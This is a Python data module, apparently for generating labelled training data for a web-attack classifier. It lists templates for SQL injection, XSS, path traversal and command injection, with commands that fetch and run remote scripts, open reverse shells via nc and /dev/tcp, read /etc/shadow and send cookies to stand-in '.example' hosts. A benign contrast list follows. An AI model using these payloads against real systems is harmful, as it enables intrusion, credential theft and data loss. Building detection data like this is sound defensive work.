"""What requests of learning material are made of; `request_forms` puts them together.

Braces are filled in: {w} a word, {W} one with a capital, {n} a number, {m} a smaller one, {d} a
digit, {l} a letter, {q} a quote, {c} what comments the rest out, {s} what parts two commands,
{x} a command, {up} steps out of a folder, {nulls} columns, {p} a person, {y} a year, {b} what ends
a string and the brackets around it, and tokens.
"""

# fmt: off
from __future__ import annotations

from ml_core.kinds.words import COMMON

FOLDERS = (
    "api", "v1", "v2", "app", "shop", "blog", "user", "users", "admin", "account", "public",
    "search", "static", "store", "news", "wiki", "data", "rest", "cms", "forum", "img", "files",
    "products", "items", "orders", "cart", "help", "docs", "media", "tienda", "catalog", "auth",
    "public", "portal",
)
PAGES = (
    "index", "login", "search", "view", "item", "list", "detail", "page", "show", "product",
    "article", "profile", "edit", "comment", "report", "download", "register", "cart", "checkout",
    "contact", "topic", "export", "query", "vulnerable", "ping", "lookup",
)
ENDINGS = (
    "", "", "", "/", ".php", ".php", ".jsp", ".asp", ".aspx", ".html", ".do", ".cgi",
)
NAMES = (
    "id", "q", "s", "query", "search", "name", "user", "username", "login", "password", "email",
    "page", "lang", "sort", "order", "filter", "category", "cat", "file", "path", "url", "next",
    "title", "body", "comment", "text", "msg", "message", "host", "ip", "cmd", "action", "type",
    "date", "from", "to", "token", "key", "ref", "item", "product", "price", "qty", "city",
    "country", "code", "view", "dir", "doc", "lookup", "modo", "b1", "nombre",
)
SITE_WORDS = (
    "red", "blue", "shoes", "garden", "summer", "kitchen", "phone", "laptop", "camera", "books",
    "music", "hotel", "berlin", "madrid", "paris", "coffee", "tea", "bicycle", "window", "report",
    "annual", "meeting", "project", "budget", "team", "security", "network", "server", "update",
    "release", "note", "question", "answer", "family", "holiday", "train", "winter", "jacket",
    "small", "large", "cheap", "best", "review", "price", "order", "table", "select", "drop",
    "union", "group", "insert", "delete", "having", "where", "like", "and", "or", "not", "null",
    "script", "alert", "style", "image", "source", "cat", "dog", "ping", "id", "host", "file",
    "list", "sleep", "time", "exec", "system", "admin", "root", "password",
)
WORDS = (*COMMON, *SITE_WORDS * 3)  # the words that attacks hold stay frequent in harmless texts
PEOPLE = (
    "O'Brien", "D'Angelo", "Müller", "José", "Zoë", "Smith-Jones", "McDonald", "L'Oréal", "Anna",
    "Ivan", "Li", "Ngọc", "Sánchez",
)
STATIC = (
    "css", "js", "png", "jpg", "svg", "ico", "woff2", "gif", "map", "json", "pdf", "webp",
)
ATTACKS: dict[str, tuple[str, ...]] = {
    "sqli": (
        "{n} order by {d}{c} {w}", "{w}{q} order by {d}{c} {w}", "{n} order by {n}", "{n} and {d}={m}", "{n}{q} {w}",
        "{n} union all select {nulls}{c} {w}", "{n}{q}{w}<{q}\">{w}", "{w}{q}(.,).\"{q}", "{w},,)\"(),,{q}.", "{w};drop table {w}", "{n}; drop table {w};", "{n};drop table {w}{c}", "{n}{q} and {n}={n}{c} {w}",
        "{w}{q} and {n}={n} and {q}{w}{q}={q}{w}", "({n}) and ({n}={n})", "{n} or {q}{w}{q}={q}{w}{q}{c} {w}",
        "{q} or {q}{n}{q}={q}{n}", "{n}{q} or 1=1{c}", "{w}{q}{c}", "admin{q}{c}", "admin{q} #",
        "{n} or {m}={m}", "{n} and {m}={n}", "{n}{q} and {q}{w}{q}={q}{w}", "{n}) or ({m}={m}",
        "{n} union select {nulls}{c}", "-{n}{q} union all select {nulls}{c}",
        "{n} union select {w},{w},version(){c}",
        "{q} union select username,password from users{c}",
        "{n} union select table_name,{n} from information_schema.tables{c}",
        "{n}{q}; drop table {w}{c}", "{n}; insert into {w} values({n},{q}{w}{q}){c}",
        "{n} and sleep({d})", "{n}{q} and sleep({d}){c}", "{n}{q} or sleep({d})#",
        "{n};select pg_sleep({d}){c}", "{n}{q} waitfor delay {q}0:0:{d}{q}{c}",
        "{n} and (select {n} from (select(sleep({d})))a)", "{n} order by {n}{c}",
        "{n}{q} order by {d}{c}", "{n} and extractvalue({n},concat(0x7e,version()))",
        "{n} and updatexml(1,concat(0x7e,(select user())),1)", "{n}/**/or/**/{m}={m}",
        "{n}/**/union/**/select/**/{nulls}", "{n}||(select {w} from {w})||{q}",
        "{n} into outfile {q}/var/www/{w}.php{q}",
        "{n} union select load_file({q}/etc/passwd{q})", "{q} or {q}{q}={q}", "{q}={q}{q}or{q}",
        "{n} and ascii(substring((select {w}),1,1))>{n}",
        "{n} rlike (select (case when ({m}={m}) then 1 else 0x28 end))",
        "{n} procedure analyse()", "{n} having {m}={m}{c}",
        "{n}{q} group by {w} having {m}={m}{c}", "{n} is not null",
        "{w}{q} and {n}={n} and {q}%{q}={q}", "{q}", "{n}{q}", "{w} and {n}={n}",
        "{w} or {n}={n}", "{w} and {n}={n}{c}", "{w}{q} and {n}={m}{c}", "{n};drop table {w}",
        "{n};delete from {w}{c}", "{n};update {w} set {w}={n}{c}", "{w}) and sleep({d}){c}",
        "{w}{q}) union select {nulls}{c}", "{w} union select {nulls}{c}",
        "{n} and (select count(*) from {w})>{m}", "{w}{q};select {n}{c}",
        "{n}) and {n}={n} and ({m}={m}", "{w}{q} and {n}=cast((select {w}) as int){c}",
        "{n}\")) or {m}={m}{c}",
        "-{n}{b} union all select {nulls}{c}", "-{n}{b} where {n}={n} or {n}={m}{c}", "{n}{b} and {n}={n}{c}",
        "-{n}{b} or {n}={n}{c}", "{n}{b} where {n}={n} union all select {nulls}{c}", "{n}{b} and elt({n}={n},{n}){c}",
        "-{n}{b} as {w} where {n}={n} or {n}={m}{c}", "{n}{b} as {w} where {m}={m} and {n}={n}{c}", "{n}{b} order by {m}{c}",
        "{n}{b} or make_set({n}={m},{n}){c}", "{n}{b} in boolean mode) union all select {nulls}{c}", "{n}{b} rlike sleep({d}){c}",
        "{n}{b};select case when {n}={m} then 1 else null end{c}", "(select case when {n}={m} then {n} else {n}*(select {n} from {w}) end)",
        "{n}{b}+(select {w} where {n}={n} union all select {n},{n}{c}", "1,(case when {n}={n} then 1 else null end)", "{b} or {d}={d}{c}",
        "{w}{b} and {w} is null; --", "{d} or {d}={d}", "select {w}();", "select * from {w}", "{b} waitfor delay {q}0:0:{d}{q}{c}",
    ),
    "xss": (
        "<script>alert({n})</script>", "\"><script>alert({q}{w}{q})</script>",
        "<script>alert(document.cookie)</script>", "<script src=//{w}.example/{w}.js></script>",
        "<img src=x onerror=alert({n})>", "\"><img src={w} onerror=prompt({n})>",
        "<svg/onload=alert({n})>", "<svg onload=fetch({q}//{w}.example/?c={q}+document.cookie)>",
        "javascript:alert({n})", "<iframe src=javascript:alert({n})>", "<body onload=alert({n})>",
        "\" onmouseover=alert({n}) x=\"", "' autofocus onfocus=alert({n}) '",
        "<a href=\"javascript:alert({n})\">{w}</a>", "<details open ontoggle=confirm({n})>",
        "{q};alert({n})//", "</script><script>{w}({n})</script>", "<ScRiPt>confirm({n})</sCrIpT>",
        "<input onfocus=alert({n}) autofocus>", "<video><source onerror=alert({n})>",
        "<marquee onstart=alert({n})>", "<object data=javascript:alert({n})>",
        "<script>document.location={q}http://{w}.example/?{q}+document.cookie</script>",
        "&#60;script&#62;alert({n})&#60;/script&#62;", "<math href=javascript:alert({n})>{w}",
        "<form><button formaction=//{w}.example>{w}", "<link rel=import href=//{w}.example>", "<link rel=stylesheet href=javascript:{w}>",
        "<embed src={q}http://{w}.example/{w}.swf{q} allowscriptaccess=always>", "data:text/html;base64,{b64}", "<x {w}=1 onclick={w}>{w}",
        "<embed src=data:image/svg+xml;base64,{b64}>", "<object data=data:text/html;base64,{b64}></object>", "<base href=//{w}.example/>",
        "<style>@import{q}//{w}.example/{w}.css{q};</style>", "<div style=\"{w}:expression({w}({n}))\">", "<frameset onload={w}={n}>",
        "<meta http-equiv=refresh content=\"0;url=javascript:{w}({n})\">", "<a href=\"http://0x{hex6}/\">{w}</a>", "<a href=//{n}{n}>{w}</a>",
        "<svg><script>alert&lpar;{n}&rpar;", "<svg><animate onbegin={w}({n}) attributename=x>", "&lt;script&gt;alert({n})&lt;/script&gt;",
        "&#x3c;script&#x3e;{w}", "<table background=javascript:{w}({n})>", "\" style=\"{w}:{w}\" on{w}={w} \"", "<?xml-stylesheet href=javascript:{w}({n})?>",
        "<select autofocus onfocus={w}>", "{q};alert(string.fromcharcode({n},{m}))//", "+adw-script+ad4-{w}({n})", "<bgsound src=javascript:{w}>",
        "<math><a xlink:href=//{w}.example>{w}", "<xss style=behavior:url({w}.htc)>", "<script>{w}</script", "<b onmouseover={w}({n})>{w}</b>",
    ),
    "path_traversal": (
        "{up}etc/passwd", "{up}etc/shadow", "{up}etc/hosts", "{up}windows/win.ini",
        "{up}boot.ini", "{up}proc/self/environ", "{up}var/log/{w}.log", "{up}{w}/{w}.conf",
        "{up}etc/passwd%00", "{up}etc/passwd%00.png", "{w}/{up}etc/passwd", "/etc/passwd",
        "file:///etc/passwd", "php://filter/convert.base64-encode/resource={w}.php",
        "{up}{w}.php", "{up}web.config", "{up}.env", "{up}.ssh/id_rsa", "/{w}/{up}etc/issue",
        "c:\\windows\\system32\\drivers\\etc\\hosts", "/proc/self/cmdline", "{up}wp-config.php",
        "/./{up}{w}", "{up}{w}", "{up}{w}.{w}", "{w}/{up}{w}/{w}", "{up}root/.bash_history", "{up}usr/local/{w}", "/etc/shadow", "{w}{up}etc/passwd",
    ),
    "cmdi": (
        "localhost{s}{x}", "192.168.{d}.{m}{s}{x}", "{{{{{d}*{d}}}}}", "${{{n}*{m}}}", "#{{{n}*{d}}}", "<%= {d}*{d} %>",
        "${{jndi:ldap://10.{m}.{d}.1:{n}/{w}}}", "${{jndi:${{lower:l}}dap://{w}.example/{w}}}", "{{{{config.items()}}}}",
        "${{T(java.lang.Runtime).getRuntime().exec({q}{x}{q})}}", "file.{w}{s}{x}", "{w}@{w}.example{s}{x}",
        "{w}{s}{x}", "{n}{s}{x}", "127.0.0.1{s}{x}", "{w}.example{s} {x}", "{s}{x}{s}", "$({x})",
        "`{x}`", "{n}`{x}`", "{w}$({x})", "| {x}", "|| {x}", "&& {x}", "; {x} #", "{n} && {x}",
        "%0a{x}", "{q}; {x}; {q}", "<?php system({q}{x}{q}); ?>",
        "${{jndi:ldap://{w}.example/{w}}}", "${{${{lower:j}}ndi:rmi://{w}.example:{n}/{w}}}",
        "system({q}{x}{q})", "exec({q}{x}{q})", "() {{ :; }}; {x}",
        "__import__({q}os{q}).popen({q}{x}{q}).read()", "{w}\n{x}",
        "{q}{s}{x}{s}", "{q}{s}{x}{s}{q}", "{q}{s}{x} #", "{w}{q}{s}{x}{s}", "{s}{x}{q}", "{n}{s}{x}{s}{n}", "{x}{s}", "{q}{x}{s}",
        "<!--#exec cmd={q}{x}{q} -->", "<!--#include virtual={q}/{w}{q} -->",
    ),
}
COMMANDS = (
    "id", "whoami", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls -la", "ls /", "ps aux",
    "ping -c {d} 127.0.0.1", "ping -n {d} 127.0.0.1", "sleep {d}",
    "curl http://{w}.example/{w}.sh|sh", "wget http://{w}.example/{w} -O /tmp/{w}",
    "nc -e /bin/sh {w}.example {n}", "netstat -an", "bash -i >& /dev/tcp/10.0.0.{d}/{n} 0>&1",
    "/bin/cat /etc/passwd", "type c:\\boot.ini", "dir c:\\", "cat${{IFS}}/etc/passwd", "echo {n}",
    "ifconfig", "ip addr", "env", "pwd", "net user", "nslookup {w}.example",
    "python -c 'import os'", "perl -e 'print {n}'", "touch /tmp/{w}", "ls /{w}", "ls /home",
    "cat /{w}/{w}.conf", "ls -l", "cat {w}.php", "hostname", "w", "last", "date", "df -h",
    "rm -rf /tmp/{w}", "chmod 777 {w}", "find / -name {w}",
    "echo {w}$(({n}+{m}))$(echo {w}){w}", "echo$ifs{w}$(({n}+{m}))$(echo$ifs{w}){w}", "uname >{w}{n}",
    "ver >{w}{n}", "del {w}{n}", "rm {w}{n}", "ping -w {n} -n 1 {d}.{d}.{d}.{m}", "expr {n} + {m}",
    "set /a {n}+{m}", "print {n}*{m}", "uname\t>{w}{n}\t#", "cat$ifs/etc/passwd", "id>{w}.txt",
)
HARMLESS = (
    "don't {w}; {w} at {w}", "{w} isn't {w}, it's {w}.", "{W} \"{w}\" isn't '{w}'", "{w},{w}\n{w},{n}\n{w},{m}\n", "..", "../..",
    "{{\"{w}\":{{\"lt\":{m}}}}}", "{{{w}}}", "{{{{ {w} }}}}", "${n}", "{w}#{w}", "{n}+{m}", "{n}*{m}", "{n}={n}?", "{w}:{w}@{w}",
    "{w}; q=0.{d}", "'{w}'", "\"{w}\"", "({w})", "[{w}]", "{p}'s {w}", "{w} - {w} | {w}", "~{w}", "{w}$", "{n};{m}", "{w} && {w}?",
    "{w} {w}", "{w} {w} {w}", "{w}", "{w} {w} {w} {w}", "{w} {w} {n} {w}", "{W} and {w}", "{w} or {w} {w}", "select a {w} from our {w}",
    "drop the {w} and order by {w}", "{w} union {w} group", "{W} & {W}", "{p}", "{p} {p}",
    "{w}@{w}.example", "{w}.{w}+{w}@example.com", "{y}-0{d}-1{d}", "{y}-0{d}-1{d}T10:{n}:00Z",
    "{uuid}", "{hex}", "{b64}", "{jwt}", "{n}", "{n}.{n}", "-{n}", "{n},{m},{n}", "${n}.99",
    "{n}%", "+49 30 {n}{n}", "{n}-{m}-{n}", "{w}_{w}", "{w}-{w}-{n}", "{w}.pdf", "{w}/{w}.png",
    "{W}: it's {n} o'clock", "https://{w}.example/{w}?{w}={n}", "http://{w}.example/",
    "status eq 'open' and price gt {n}", "name:asc", "-created_at", "{w}[]", "#{hex6}",
    "<p>{W} {w} <b>{w}</b></p>", "a < b and b > {n}", "{w}; {w}; {w}", "C++ / C# ({w})",
    "how to {w} a {w} in sql?", "{W} ({y}) - {w}", "{w}|{w}", "*{w}*", "{w} = {n}", "true",
    "null", "en-US", "{W}! {W}?", "{w}'s {w}", "\"{w} {w}\"", "1 of {n} -- {w}", "on", "{n}x{m}",
    "don't {w}, or {w}", "{w} where {w} like {w}", "what is the id of {w}", "c/ {w} {n}, {d}-a",
    "{n}{l}", "query {{ {w}(id: {n}) {{ {w} {w} }} }}", "{w}/{w}", "/{w}/{w}", "./{w}/{w}.html",
    "{w}...", "script {w} alert", "I can't {w} since {w}, it says '{w} {w}'.",
    "Please {w} a {w} and {w} my {w}; {w} it off.",
    "It's the {w}'s {w} -- not \"{w}\" -- that I {w}.",
    "{W} from the {w} where {w} is {n}, thanks; {p}",
    "We {w} and {w} ({n} of {m}); is this {w} or {w}?", "{p} said: \"{w} {w}\" & left at {n}:{m}",
    "{W} {w} {w} {w} {w}, {w} {w}. {W} {w} {w} #{n}!", "Hi,\n{w} {w} {w} {w}.\nRegards\n{p}",
    "<{W}{d}> {w}", "# {W}\n* {w}\n* {w} `{w}`\n", "{w}: {n}; {w}: {m};", "{p} <{w}@{w}.example>",
    "{W}={n}&{w}={m}", "{w}/../{w}",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{n}\"><rect width=\"{m}\" fill=\"#{hex6}\"/></svg>",
    "<?xml version=\"1.0\"?><{w}><{w} id=\"{n}\">{w}</{w}></{w}>",
    "<p class=\"{w}\">{W} {w}</p><img src=\"/{w}.png\">",
    "<a href=\"https://{w}.example/{w}\">{w} {w}</a>",
    "<h1>{W}</h1><ul><li>{w}</li><li>{w}</li></ul>", "{b64}{b64}",
)
IDENTIFIERS = (
    "{n}", "{n}", "{d}", "{uuid}", "{hex}", "{w}", "{w}-{w}", "{W}",
)
